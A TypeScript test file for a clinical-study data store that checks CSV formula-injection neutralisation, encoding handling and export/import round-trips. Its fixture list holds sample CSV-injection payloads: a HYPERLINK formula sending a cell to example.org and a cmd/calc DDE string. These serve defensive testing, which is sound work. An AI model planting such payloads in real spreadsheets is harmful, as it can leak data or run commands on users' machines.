import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { neutralizeFormula, restoreFormula } from "./csv-cell";
import { exportCsv, importCsv, openTestStore, postgresTestDatabase, type Store } from "./index";

const dataManager = { userId: "u-dm", username: "dm.pisa" };

// Cells a spreadsheet would run as formulas (OWASP CSV injection), and text that only looks so.
const formulas = [
  '=HYPERLINK("http://example.org/?leak="&A1,"details")',
  "+39 055 1234567",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "'=already quoted",
  "-1.5",
  "plain notes",
];

describe("formula cells", () => {
  it("are neutralized so that no cell starts a formula, and restored exactly", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        const neutral = neutralizeFormula(text);
        expect(restoreFormula(neutral)).toBe(text);
        if (!/^[+-]?\d+(\.\d+)?$/.test(text)) expect(neutral).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 2000 },
    );
    expect(neutralizeFormula("=1+1")).toBe("'=1+1");
    expect(neutralizeFormula("-1.5")).toBe("-1.5");
    expect(neutralizeFormula("'=x")).toBe("''=x");
    expect(neutralizeFormula("Rossi")).toBe("Rossi");
  });
});

function describeCsvText(engine: string, openStore: () => Promise<Store>) {
  describe(`CSV text on ${engine}`, () => {
    let store: Store;
    let studyId: string;
    let copyId: string;
    const run = <T>(work: Parameters<Store["transaction"]>[1]) =>
      store.transaction(dataManager, work) as Promise<T>;
    const importInto = (
      study: string,
      kind: "subjects" | "visits" | "lab-results",
      csv: string | Uint8Array,
    ) => store.transaction(dataManager, (tx) => importCsv(tx, { kind, csv, studyId: study }));

    beforeAll(async () => {
      store = await openStore();
      [studyId, copyId] = await run<string[]>(async (tx) => {
        const ids: string[] = [];
        for (const code of ["CICLO", "COPY"]) {
          const study = await tx.records.create("study", { code, title: code });
          if (!study.ok) throw new Error(study.problem.message);
          await tx.records.create("site", { studyId: study.value.id, code: "PI", name: "Pisa" });
          ids.push(study.value.id);
        }
        return ids;
      });
      const subjects = await importInto(
        studyId,
        "subjects",
        "site_code,pseudonym,arm,enrolment_date\nPI,PI-001,treated,2024-01-10\n",
      );
      expect(subjects.ok).toBe(true);
    });
    afterAll(() => store.close());

    it("reads UTF-8 with and without a byte order mark", async () => {
      const rows =
        "pseudonym,visit_date,kind,notes\nPI-001,2024-02-0%d,control,Città di Castello\n";
      const withBom = new Uint8Array([0xef, 0xbb, 0xbf, ...Buffer.from(rows.replace("%d", "1"))]);
      const withoutBom = new Uint8Array(Buffer.from(rows.replace("%d", "2")));
      expect((await importInto(studyId, "visits", withBom)).ok).toBe(true);
      expect((await importInto(studyId, "visits", withoutBom)).ok).toBe(true);
      const notes = await run<unknown[]>(async (tx) =>
        (await tx.records.list("visit")).map((visit) => visit.notes),
      );
      expect(notes).toEqual(["Città di Castello", "Città di Castello"]);
    });

    it("refuses Latin-1 bytes, naming the line and saying to save the file as UTF-8", async () => {
      const latin1 = Buffer.from(
        "pseudonym,visit_date,kind,notes\nPI-001,2024-02-05,control,fine\nPI-001,2024-02-06,control,Città\n",
        "latin1",
      );
      const outcome = await importInto(studyId, "visits", new Uint8Array(latin1));
      expect(outcome.ok).toBe(false);
      if (outcome.ok) return;
      expect(outcome.problem.code).toBe("invalid");
      expect(outcome.problem.message).toMatch(/save it as UTF-8/);
      expect(outcome.problem.rows).toEqual([
        { row: 3, field: "(file)", message: expect.stringMatching(/not UTF-8/) },
      ]);
    });

    it("refuses UTF-16, saying to save the file as UTF-8", async () => {
      const text = "pseudonym,visit_date,kind\nPI-001,2024-02-07,control\n";
      const utf16 = new Uint8Array([0xff, 0xfe, ...Buffer.from(text, "utf16le")]);
      const outcome = await importInto(studyId, "visits", utf16);
      expect(outcome.ok).toBe(false);
      if (!outcome.ok) expect(outcome.problem.message).toMatch(/save it as UTF-8/);
    });

    it("refuses a header naming a column twice, naming the column", async () => {
      const csv = "pseudonym,visit_date,kind,notes,notes\nPI-001,2024-02-08,control,a,b\n";
      const outcome = await importInto(studyId, "visits", csv);
      expect(outcome.ok).toBe(false);
      if (outcome.ok) return;
      expect(outcome.problem.rows).toEqual([
        { row: 1, field: "notes", message: expect.stringMatching(/'notes' appears 2 times/) },
      ]);
    });

    it("exports formula text neutralized, numbers as numbers, and imports it back unchanged", async () => {
      // Stored as a site wrote them through the API, then exported.
      await run(async (tx) => {
        const [subject] = await tx.records.list("subject", { where: { pseudonym: "PI-001" } });
        for (const [day, notes] of formulas.entries()) {
          const visit = await tx.records.create("visit", {
            subjectId: subject.id,
            visitDate: `2024-03-${10 + day}`,
            kind: "control",
            notes,
          });
          if (!visit.ok) throw new Error(visit.problem.message);
        }
      });
      const labs = await importInto(
        studyId,
        "lab-results",
        "pseudonym,drawn_at,relation,analyte,value,unit,reference_low,assay\nPI-001,2024-03-01T08:00:00Z,pre,CEA,4.1,ng/mL,-1.5,-1.5\n",
      );
      expect(labs.ok, JSON.stringify(labs)).toBe(true);

      const exported = await run<string>((tx) => exportCsv(tx.db, "visits", { studyId }));
      for (const line of exported.trim().split("\n").slice(1)) {
        const notes = line.split(",").slice(3).join(",").replace(/^"/, "");
        if (notes !== "-1.5") expect(notes, line).not.toMatch(/^[=+\-@\t\r]/);
      }
      expect(exported).toContain("'=HYPERLINK(");
      expect(exported).toContain(",''=already quoted");
      const lab = await run<string>((tx) => exportCsv(tx.db, "lab-results", { studyId }));
      expect(lab.split("\n")[1]).toMatch(/,-1\.5,.*,-1\.5,/);

      // Export → import into a second study → export: the same file.
      const subjects = await run<string>((tx) => exportCsv(tx.db, "subjects", { studyId }));
      expect((await importInto(copyId, "subjects", subjects)).ok).toBe(true);
      expect((await importInto(copyId, "visits", exported)).ok).toBe(true);
      expect((await importInto(copyId, "lab-results", lab)).ok).toBe(true);
      expect(await run<string>((tx) => exportCsv(tx.db, "visits", { studyId: copyId }))).toBe(
        exported,
      );
      expect(await run<string>((tx) => exportCsv(tx.db, "lab-results", { studyId: copyId }))).toBe(
        lab,
      );
      const copied = await run<unknown[]>(async (tx) => {
        const [subject] = await tx.records.list("subject", {
          where: { studyId: copyId, pseudonym: "PI-001" },
        });
        const visits = await tx.records.list("visit", { subjectId: subject.id });
        return visits.map((visit) => visit.notes).filter((notes) => notes !== "Città di Castello");
      });
      expect(copied.sort()).toEqual([...formulas].sort());
    });
  });
}

describeCsvText("PGlite", () => openTestStore());
const serverUrl = process.env.TEST_DATABASE_URL;
if (serverUrl) {
  const database = postgresTestDatabase(serverUrl);
  afterAll(() => database.drop());
  describeCsvText("PostgreSQL", () => database.openStore());
}
